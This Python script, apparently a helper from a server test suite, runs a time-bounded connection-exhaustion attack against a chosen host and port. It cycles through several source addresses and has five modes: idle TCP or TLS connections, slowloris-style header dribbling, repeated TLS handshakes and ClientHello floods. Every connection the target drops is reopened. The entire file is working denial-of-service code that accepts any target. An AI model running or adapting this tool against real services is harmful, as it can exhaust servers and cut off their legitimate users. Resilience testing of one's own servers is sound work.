"""Run by itself as the attacker: real connections that do no good, for a bounded time.

Options: host, port, sources, connections (in all), seconds, and how they behave, `kind`:

tcp        connect, and say nothing
tls        finish the handshake, and say nothing
loris      finish the handshake, and send a header's letter every second
handshake  finish the handshake, hang up, begin anew
hello      send a ClientHello, hang up without reading the answer, begin anew

Whatever the host ends is begun anew, so that as many as asked for are always there. Writes a line
when that many were opened for the first time, from when the seconds count, and at the end how many
were opened, how many handshakes finished and how many there were at the most.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import resource
import selectors
import socket
import ssl
import sys
import time
from typing import Any

_BEGUN_AT_ONCE = 200
_PATIENCE = 30.0  # for a machine on which opening takes long
_HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "


class Hold:
    """One connection of the attacker's."""

    __slots__ = ("bio", "finished", "next", "out", "sock", "tls")

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.tls: ssl.SSLObject | None = None
        self.bio = ssl.MemoryBIO()
        self.out = ssl.MemoryBIO()
        self.finished = False
        self.next = 0.0


class Attack:
    def __init__(self, options: dict[str, Any]) -> None:
        self._options = options
        self._kind = options["kind"]
        self._sources = itertools.cycle(options["sources"])
        self._target = (options["host"], options["port"])
        self._ready = selectors.DefaultSelector()
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._context.check_hostname = False
        self._context.verify_mode = ssl.CERT_NONE
        self._held: dict[Hold, None] = {}
        self.opened = self.handshakes = self.most = self.ended = 0

    def run(self) -> None:
        seconds = self._options["seconds"]
        end = time.monotonic() + _PATIENCE + seconds
        letters = 0.0
        is_full = False
        while (now := time.monotonic()) < end:
            if not is_full and (self._is_full() or now >= end - seconds):
                is_full = True
                end = now + seconds
                print("as many as asked for", flush=True)
            missing = self._options["connections"] - len(self._held)
            for _ in range(min(missing, _BEGUN_AT_ONCE)):
                if not self._begin():
                    break
            for key, _ in self._ready.select(0.02):
                self._step(key.data)
            if self._kind == "loris" and now >= letters:
                letters = now + 1.0
                self._send_letters()
            self.most = max(self.most, len(self._held))

    def _is_full(self) -> bool:
        return bool(self.opened >= self._options["connections"])

    def _begin(self) -> bool:
        sock = socket.socket()
        sock.setblocking(False)
        sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        try:
            sock.bind((next(self._sources), 0))
            with contextlib.suppress(BlockingIOError):
                sock.connect(self._target)
        except OSError:
            sock.close()
            return False
        self.opened += 1
        hold = Hold(sock)
        self._held[hold] = None
        wanted = selectors.EVENT_READ if self._kind == "tcp" else selectors.EVENT_WRITE
        self._ready.register(sock, wanted, hold)
        return True

    def _step(self, hold: Hold) -> None:
        try:
            if self._kind == "tcp":
                hold.sock.recv(1)
                self._end(hold)
                return
            if hold.tls is None:
                hold.tls = self._context.wrap_bio(hold.bio, hold.out, server_hostname="x")
                self._ready.modify(hold.sock, selectors.EVENT_READ, hold)
            elif data := hold.sock.recv(16384):
                hold.bio.write(data)
            else:
                self._end(hold)
                return
            if not hold.finished:
                self._shake(hold)
        except BlockingIOError:
            pass
        except OSError:
            self._end(hold)

    def _shake(self, hold: Hold) -> None:
        assert hold.tls is not None
        with contextlib.suppress(ssl.SSLWantReadError):
            hold.tls.do_handshake()
            hold.finished = True
            self.handshakes += 1
        if out := hold.out.read():
            hold.sock.send(out)
        if self._kind == "hello" or (self._kind == "handshake" and hold.finished):
            self._end(hold)
        elif self._kind == "loris" and hold.finished:
            self._say(hold, _HEAD)

    def _say(self, hold: Hold, data: bytes) -> None:
        assert hold.tls is not None
        hold.tls.write(data)
        hold.sock.send(hold.out.read())

    def _send_letters(self) -> None:
        for hold in list(self._held):
            if hold.finished:
                try:
                    self._say(hold, b"a")
                except OSError:
                    self._end(hold)

    def _end(self, hold: Hold) -> None:
        self._ready.unregister(hold.sock)
        # With a reset: no port of the attacker's waits for its time.
        hold.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        hold.sock.close()
        self._held.pop(hold, None)
        self.ended += 1


_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
attack = Attack(json.loads(sys.argv[1]))
attack.run()
print(
    json.dumps(
        {
            "opened": attack.opened,
            "handshakes": attack.handshakes,
            "most": attack.most,
            "ended": attack.ended,
        }
    )
)
